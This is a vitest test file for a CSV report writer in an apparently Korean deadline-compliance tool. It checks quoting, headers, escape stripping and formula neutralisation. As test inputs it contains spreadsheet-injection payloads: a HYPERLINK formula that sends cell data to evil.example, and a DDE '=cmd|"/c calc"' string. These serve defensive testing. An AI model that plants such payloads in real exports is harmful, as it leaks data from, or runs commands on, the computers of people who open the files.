import { describe, expect, it } from 'vitest';
import { csvBreakdownHeaders, csvField, csvHeaders, formatCsv } from '../../src/report/csv.js';
import { ESCAPE_ID, FORMULA_ID, SCRIPT_DEPT, options, sampleResult } from './factory.js';

/** A small RFC 4180 reader, enough to check what Excel would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

describe('formatCsv', () => {
  const result = sampleResult();

  it('writes one row per violation after the header, every line ending in CRLF', () => {
    const text = formatCsv(result, options({ lang: 'en' }));
    expect(text.endsWith('\r\n')).toBe(true);
    // The violations table is the first one; the per-period measures follow a blank line.
    const rows = parseCsv(text.split('\r\n\r\n')[0]! + '\r\n');
    expect(rows).toHaveLength(1 + result.violations.length);
    for (const r of rows) expect(r).toHaveLength(csvHeaders('en').length);
  });

  it('uses Korean or English headers by lang', () => {
    expect(parseCsv(formatCsv(result, options({ lang: 'ko' })))[0]).toEqual([...csvHeaders('ko')]);
    expect(parseCsv(formatCsv(result, options({ lang: 'ko' })))[0]?.[6]).toBe('레코드 번호');
    expect(parseCsv(formatCsv(result, options({ lang: 'en' })))[0]?.[6]).toBe('record_id');
  });

  it('neutralises formulas from the input and keeps the text otherwise intact', () => {
    const rows = parseCsv(formatCsv(result, options({ lang: 'en' })));
    const ids = rows.slice(1).map((r) => r[6]);
    expect(ids).toContain(`'${FORMULA_ID}`);
    expect(ids).toContain("'+82-10-1234");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('quotes fields with quotes, commas and line breaks (RFC 4180)', () => {
    const text = formatCsv(result, options({ lang: 'en' }));
    expect(text).toContain('"paid late\nsecond line"');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""클릭"")"`);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('plain')).toBe('plain');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvField(null)).toBe('');
  });

  it('strips escape sequences from input cells', () => {
    const text = formatCsv(result, options({ lang: 'en' }));
    expect(text).not.toContain('\u001b');
    expect(text).not.toContain('\u0007');
    expect(parseCsv(text).flat()).toContain('C-RED--9');
    expect(ESCAPE_ID).toContain('\u001b');
  });

  it('adds a BOM only when asked', () => {
    expect(formatCsv(result, options({ bom: true })).charCodeAt(0)).toBe(0xfeff);
    expect(formatCsv(result, options({ bom: false })).charCodeAt(0)).not.toBe(0xfeff);
  });

  it('writes times Excel reads, durations in seconds and a readable late-by, plus title and clause', () => {
    const rows = parseCsv(formatCsv(result, options({ lang: 'en' })));
    const head = rows[0] ?? [];
    const first = Object.fromEntries(head.map((h, i) => [h, rows[1]?.[i]]));
    expect(first).toMatchObject({
      rule: 'complaint.inquiry',
      title: 'Web procurement inquiry answered within 1 day',
      file: 'complaints.csv',
      line: '2',
      record_id: 'Q-2024-0913',
      department: '고객지원센터',
      start_kst: '2024-09-13 17:00:00',
      deadline_kst: '2024-09-19 17:00:00',
      end_kst: '2024-09-20 10:15:00',
      open: 'no',
      allowed_working_seconds: '28800',
      elapsed_working_seconds: '36900',
      over_working_seconds: '8100',
      late_by: '2h 15m',
    });
    expect(first.clause).toContain('1일(8근무시간)');
    const open = Object.fromEntries(head.map((h, i) => [h, rows[3]?.[i]]));
    expect(open).toMatchObject({ open: 'yes', end_kst: '' });
  });

  it('writes only the header when there are no violations', () => {
    expect(parseCsv(formatCsv(sampleResult({ violations: [], aggregates: [] }), options()))).toHaveLength(1);
  });

  it('with --group-by lists the breakdown rows (group × rule) instead of the violations', () => {
    const grouped = sampleResult({ groupBy: 'month' });
    const rows = parseCsv(formatCsv(grouped, options({ lang: 'en' })).split('\r\n\r\n')[0]! + '\r\n');
    expect(rows[0]).toEqual([...csvBreakdownHeaders('en')]);
    expect(rows).toHaveLength(1 + grouped.groups.month.length);
    const aug = rows.find((r) => r[1] === '2024-08' && r[2] === 'complaint.inquiry');
    expect(aug).toEqual([
      'by month',
      '2024-08',
      'complaint.inquiry',
      'Web procurement inquiry answered within 1 day',
      '100',
      '99',
      '1',
      '0',
      '0.99',
    ]);
    const ko = parseCsv(formatCsv(sampleResult({ groupBy: 'department' }), options({ lang: 'ko' })));
    expect(ko[0]).toEqual([...csvBreakdownHeaders('ko')]);
    expect(ko.map((r) => r[1])).toContain(SCRIPT_DEPT);
    expect(ko.find((r) => r[1] === '고객지원센터')?.slice(0, 3)).toEqual(['부서별', '고객지원센터', 'complaint.inquiry']);
  });

  it('neutralises a formula-like group name in the breakdown', () => {
    const hostile = sampleResult({ groupBy: 'department' });
    hostile.groups.department = [{ ...hostile.groups.department[0]!, group: '=cmd|"/c calc"!A1' }];
    const rows = parseCsv(formatCsv(hostile, options({ lang: 'en' })));
    expect(rows[1]?.[1]).toBe(`'=cmd|"/c calc"!A1`);
  });
});
